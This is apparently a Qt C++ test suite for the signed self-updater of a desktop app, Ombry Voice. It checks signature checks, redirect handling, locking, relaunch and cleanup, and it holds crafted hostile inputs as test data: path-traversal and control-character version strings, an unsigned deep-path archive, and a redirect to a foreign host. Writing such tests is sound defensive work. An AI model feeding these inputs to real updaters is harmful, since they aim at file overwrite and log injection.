                                          << QStringLiteral("mise à jour installée : 1.3.0") << QString();
    }

    void releaseOutcome()
    {
        QFETCH(Trial, trial);
        QFETCH(QString, error);
        QFETCH(qint64, buildAfter);
        QFETCH(QByteArray, started);
        QFETCH(QString, journal);
        QFETCH(QString, restartError);

        Rig rig;
        QVERIFY(rig.prepare());
        FakeHttpService elsewhere;
        QVERIFY(elsewhere.start());
        rig.offer(releaseJson());
        const auto redirect = [&rig](const QString &from, const QString &to) {
            ScriptedReply moved = ScriptedReply::text({}, 302);
            moved.headers.append({"Location", to.toUtf8()});
            rig.site.on("GET", from, moved);
        };
        const QString mirror = QStringLiteral("/mirror/ombry.tar.gz");
        switch (trial) {
        case Trial::UnsignedDeepArchive:
            rig.serve(BundleKit::craft({{kApp + QStringLiteral("/a").repeated(200) + QStringLiteral("/gros"), Member::File,
                                         QByteArray(1000, 'z'), {}, 0644}}),
                      200, QByteArray());
            break;
        case Trial::OtherKeyNotAnArchive:
            rig.serve("<html>Maintenance</html>", 200, TestKeys::strangerSecretKey());
            break;
        case Trial::RedirectedElsewhere: {
            const QByteArray archive = rig.release();
            elsewhere.on("GET", kArchivePath, ScriptedReply::text(archive));
            elsewhere.on("GET", kArchivePath + QStringLiteral(".sig"),
                         ScriptedReply::text(BundleKit::signatureOf(archive, TestKeys::secretKey())));
            redirect(kArchivePath, elsewhere.url(kArchivePath));
            redirect(kArchivePath + QStringLiteral(".sig"), elsewhere.url(kArchivePath + QStringLiteral(".sig")));
            break;
        }
        case Trial::RedirectedWithinTheSite:
            rig.serve(rig.release(), 200, TestKeys::secretKey(), mirror);
            redirect(kArchivePath, rig.site.url(mirror));
            redirect(kArchivePath + QStringLiteral(".sig"), mirror + QStringLiteral(".sig"));
            break;
        case Trial::ExitsAtOnce: {
            QTemporaryDir dir;
            const QString app = dir.path() + QLatin1Char('/') + kApp;
            QVERIFY(BundleKit::make(app, Bundle::kIdentifier, QStringLiteral("1.3.0"), QStringLiteral("13"),
                                    {{QStringLiteral("ombry-voice"), {"#!/bin/sh\nexit 1\n", true}}}));
            Bundle::sign(app, TestKeys::secretKey());
            rig.serve(BundleKit::pack(app));
            break;
        }
        case Trial::StartsWell:
            rig.serve(rig.release());
            break;
        }
        const auto before = BundleKit::snapshot(rig.bundle);

        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        const qsizetype logBefore = logText().size();
        QCoro::waitFor(updater.install());
        QCOMPARE(updater.error(), error);
        QCOMPARE(rig.quits, error.isEmpty() ? 1 : 0);
        if (!started.isEmpty()) {
            // The relaunch is over once a program has started and the former bundle is gone:
            // deleted behind a healthy start, or back in its place.
            QVERIFY(TestEnv::waitFor([&rig] { return TestEnv::readFile(rig.mark).endsWith('\n'); }, 10000));
            QVERIFY(TestEnv::waitFor([&rig] { return !QFileInfo::exists(rig.beside(QStringLiteral(".ancien"))); }, 10000));
        }
        QCOMPARE(TestEnv::readFile(rig.mark), started);
        QCOMPARE(Bundle::readInfo(rig.bundle)->build, buildAfter);
        if (buildAfter == 12)
            QCOMPARE(BundleKit::snapshot(rig.bundle), before);
        QCOMPARE(elsewhere.count(), 0);

        // The next start of whichever build is in place.
        Updater restarted(rig.setup());
        restarted.start();
        QCoreApplication::processEvents();
        QCOMPARE(restarted.error(), restartError);
        // The banner says so in place of the release note.
        QTRY_VERIFY(restarted.bannerVisible());
        QCOMPARE(restarted.detail(), restartError.isEmpty() ? QStringLiteral("Dictée plus rapide") : restartError);
        QVERIFY2(logText().mid(logBefore).contains(journal), qPrintable(logText().mid(logBefore)));
        QCOMPARE(hiddenAndShown(rig.apps), (QStringList{QStringLiteral(".Ombry Voice.app.verrou"), kApp}));
    }

    // A build started on trial reports a finished start-up through its own
    // bundle's trial file only, while the relaunch still holds the lock.
    void startEndsTheTrial_data()
    {
        QTest::addColumn<QString>("suffix");
        QTest::addColumn<bool>("removed");
        QTest::newRow("its own trial file") << QStringLiteral(".essai") << true;
        QTest::newRow("any other file") << QStringLiteral(".autre") << false;
    }

    void startEndsTheTrial()
    {
        QFETCH(QString, suffix);
        QFETCH(bool, removed);
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        const QString file = rig.beside(suffix);
        QVERIFY(TestEnv::writeFile(file, QByteArray()));
        HeldLock relaunch(Updater::lockPath(rig.bundle));
        QVERIFY(relaunch.held());
        Updater::Setup setup = rig.setup();
        setup.trial = file;
        {
            Updater updater(setup);
            updater.start();
            QVERIFY(QFileInfo::exists(file)); // not before the event loop turns
            QCoreApplication::processEvents();
        }
        QCOMPARE(!QFileInfo::exists(file), removed);
    }

    // What interrupted installations left: their work folders, unless one is
    // in use, and the items beside the bundle, unless its lock is held.
    void startSweepsWhatInstallationsLeft_data()
    {
        QTest::addColumn<bool>("bundleLocked");
        QTest::newRow("bundle free") << false;
        QTest::newRow("relaunch in progress") << true;
    }

    void startSweepsWhatInstallationsLeft()
    {
        QFETCH(bool, bundleLocked);
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        const QString abandoned = rig.workRoot + QStringLiteral("/update-abandon");
        QVERIFY(TestEnv::writeFile(abandoned + QStringLiteral("/d").repeated(100) + QStringLiteral("/gros"), "z"));
        const QString running = rig.workRoot + QStringLiteral("/update-encours");
        QVERIFY(TestEnv::writeFile(running + QStringLiteral("/paquet.tar.gz"), "z"));
        HeldLock inUse(running);
        QVERIFY(inUse.held());
        QVERIFY(TestEnv::writeFile(rig.workRoot + QStringLiteral("/autre.txt"), "garder"));
        const QStringList leftovers{QStringLiteral(".nouveau"), QStringLiteral(".ancien"), QStringLiteral(".échec"),
                                    QStringLiteral(".essai")};
        for (const QString &suffix : leftovers)
            QVERIFY(TestEnv::writeFile(rig.beside(suffix) + (suffix == QStringLiteral(".essai") ? QString() : QStringLiteral("/x")), "x"));
        HeldLock relaunch(Updater::lockPath(rig.bundle));
        if (bundleLocked)
            QVERIFY(relaunch.held());
        {
            Updater updater(rig.setup());
            updater.start();
            QCoreApplication::processEvents();
        } // waits for the sweep

        QCOMPARE(hiddenAndShown(rig.workRoot), (QStringList{QStringLiteral("autre.txt"), QStringLiteral("update-encours")}));
        QStringList beside = hiddenAndShown(rig.apps);
        beside.sort();
        QStringList expected{QStringLiteral(".Ombry Voice.app.verrou"), kApp};
        if (bundleLocked) {
            for (const QString &suffix : leftovers)
                expected.append(QStringLiteral(".") + kApp + suffix);
        }
        expected.sort();
        QCOMPARE(beside, expected);
    }

    void installNotFromABundle()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve(rig.release());
        Updater::Setup setup = rig.setup();
        setup.bundle.clear();
        setup.runningBuild = 0;
        Updater updater(setup);
        QVERIFY(QCoro::waitFor(updater.check()));
        QCoro::waitFor(updater.install());
        QVERIFY2(updater.error().startsWith(QStringLiteral("Cette copie d'Ombry Voice ne vient pas d'un paquet")),
                 qPrintable(updater.error()));
        QCOMPARE(rig.site.count(kArchivePath), 0);
    }

    void installWithoutKey()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve(rig.release());
        Updater::Setup setup = rig.setup();
        setup.publicKey.clear();
        Updater updater(setup);
        QVERIFY(QCoro::waitFor(updater.check()));
        const auto before = BundleKit::snapshot(rig.bundle);
        QCoro::waitFor(updater.install());
        QCOMPARE(updater.error(), kBadSignature);
        QCOMPARE(BundleKit::snapshot(rig.bundle), before);
        QCOMPARE(rig.site.count(kArchivePath), 0);
    }

    void installSucceeds_data()
    {
        QTest::addColumn<QString>("version");
        QTest::newRow("plain version") << QStringLiteral("1.3.0");
        // Feed text never becomes a path.
        QTest::newRow("version that names a path") << QStringLiteral("../../escape");
        QTest::newRow("version with a slash and controls") << QStringLiteral("/tmp/x\n\x1b[0m");
    }

    void installSucceeds()
    {
        QFETCH(QString, version);
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson(version, 13));
        rig.serve(rig.release());
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        const qsizetype logBefore = logText().size();
        const QStringList tempBefore = QDir(QDir::tempPath()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
        QCoro::waitFor(updater.install());

        QCOMPARE(updater.error(), QString());
        QVERIFY(updater.installing()); // the process is about to end
        QCOMPARE(rig.quits, 1);
        QVERIFY2(logText().mid(logBefore).contains(QStringLiteral("mise à jour installée : ") + Updater::printable(version) + QLatin1Char('\n')),
                 qPrintable(logText().mid(logBefore)));
        const auto info = Bundle::readInfo(rig.bundle);
        QVERIFY(info);
        QCOMPARE(info->build, qint64(13));
        QCOMPARE(Bundle::verify(rig.bundle, TestKeys::publicKey()).build, qint64(13));
        // Work folder and staging copy gone; nothing new in the temporary folder.
        QCOMPARE(rig.everything().filter(QStringLiteral("cache/Ombry Voice/")), QStringList());
        QVERIFY(rig.everything().filter(QStringLiteral("escape")).isEmpty());
        QCOMPARE(QDir(QDir::tempPath()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot).filter(QStringLiteral("escape")),
                 tempBefore.filter(QStringLiteral("escape")));
        // The helper started the new program once the old process was gone.
        QVERIFY(TestEnv::waitFor([&rig] { return QFileInfo::exists(rig.mark); }, 10000));
        QVERIFY(TestEnv::waitFor([&rig] { return TestEnv::readFile(rig.mark) == "après\n"; }, 2000));
        // Once it had started, the former bundle went.
        QVERIFY(TestEnv::waitFor([&rig] { return !QFileInfo::exists(rig.beside(QStringLiteral(".ancien"))); }, 10000));
        QCOMPARE(QDir(rig.apps).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
                 (QStringList{QStringLiteral(".Ombry Voice.app.verrou"), kApp}));
    }

    // The new program starts only once the old process is gone, however long
    // that takes; a process that is stopped still counts as running.
    void relaunchWaitsForTheOldProcess_data()
    {
        QTest::addColumn<bool>("stopped");
        QTest::newRow("running") << false;
        QTest::newRow("stopped") << true;
    }

    void relaunchWaitsForTheOldProcess()
    {
        QFETCH(bool, stopped);
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve(rig.release());
        QProcess old;
        old.start(QStringLiteral("/bin/sleep"), {QStringLiteral("30")});
        QVERIFY(old.waitForStarted());
        if (stopped)
            ::kill(pid_t(old.processId()), SIGSTOP);
        QVERIFY(TestEnv::writeFile(qEnvironmentVariable("OMBRY_TEST_PIDFILE"), QByteArray::number(old.processId())));
        Updater::Setup setup = rig.setup();
        setup.pid = old.processId();
        Updater updater(setup);
        QVERIFY(QCoro::waitFor(updater.check()));
        QCoro::waitFor(updater.install());
        QCOMPARE(rig.quits, 1);

        QTest::qWait(700);
        QVERIFY(!QFileInfo::exists(rig.mark));
        old.kill();
        QVERIFY(old.waitForFinished());
        QVERIFY(TestEnv::waitFor([&rig] { return TestEnv::readFile(rig.mark).endsWith('\n'); }, 5000));
        QCOMPARE(TestEnv::readFile(rig.mark), QByteArray("après\n"));
    }

    void relaunchImpossible()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve(rig.release());
        Updater::Setup setup = rig.setup();
        setup.shell = rig.root.path() + QStringLiteral("/no-such-shell");
        Updater updater(setup);
        QVERIFY(QCoro::waitFor(updater.check()));
        const qsizetype logBefore = logText().size();
        QCoro::waitFor(updater.install());

        QCOMPARE(rig.quits, 0); // keeps running
        QVERIFY(!updater.installing());
        QCOMPARE(updater.error(), kNextStart);
        QCOMPARE(Bundle::readInfo(rig.bundle)->build, qint64(13)); // in place for the next start
        QVERIFY2(logText().mid(logBefore).contains(QStringLiteral("mise à jour : relance impossible (")),
                 qPrintable(logText().mid(logBefore)));
        // Asking again downloads nothing more.
        QCoro::waitFor(updater.install());
        QCOMPARE(updater.error(), kNextStart);
        QCOMPARE(rig.site.count(kArchivePath), 1);
    }

    void lockHeldElsewhere()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve(rig.release());
        const int fd = ::open(QFile::encodeName(Updater::lockPath(rig.bundle)).constData(), O_RDWR | O_CREAT, 0644);
        QVERIFY(fd >= 0);
        QCOMPARE(::flock(fd, LOCK_EX | LOCK_NB), 0);
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        QCoro::waitFor(updater.install());
        ::close(fd);
        QCOMPARE(updater.error(), kBusy);
        QCOMPARE(rig.site.count(kArchivePath), 0);
        QCOMPARE(Bundle::readInfo(rig.bundle)->build, qint64(12));
    }

    // The banner's install and another process's, at the same time: one swaps,
    // the other stops before touching anything.
    void twoInstallsAtOnce()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        ScriptedReply slow = ScriptedReply::text(rig.release());
        slow.contentType = "application/gzip";
        slow.delayMs = 300;
        rig.serve(slow.body);
        rig.site.on("GET", kArchivePath, slow);
        Updater first(rig.setup());
        Updater second(rig.setup());
        QVERIFY(QCoro::waitFor(first.check()));
        QVERIFY(QCoro::waitFor(second.check()));
        first.startInstall();
        QVERIFY(rig.site.waitForRequests(1, 5000, kArchivePath));
        QCoro::waitFor(second.install());
        QCOMPARE(second.error(), kBusy);
        QVERIFY(TestEnv::waitFor([&rig] { return rig.quits == 1; }, 10000));
        QCOMPARE(first.error(), QString());
        QCOMPARE(Bundle::verify(rig.bundle, TestKeys::publicKey()).build, qint64(13));
        QCOMPARE(rig.site.count(kArchivePath), 1);
    }

    void startChecksAtOnceThenDaily()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        Updater updater(rig.setup());
        QSignalSpy found(&updater, &Updater::availableChanged);
        updater.start();
        updater.start(); // a second call schedules nothing more
        QVERIFY(found.wait(5000));
        QCOMPARE(rig.site.count(QStringLiteral("/api/updates")), 1);
        const QList<QTimer *> timers = updater.findChildren<QTimer *>();
        QCOMPARE(timers.size(), 1);
        QCOMPARE(timers.first()->interval(), 86400 * 1000);
        QVERIFY(timers.first()->isActive());
        QVERIFY(!timers.first()->isSingleShot());
    }
};

OMBRY_TEST_MAIN(TestUpdater)
#include "tst_updater.moc"
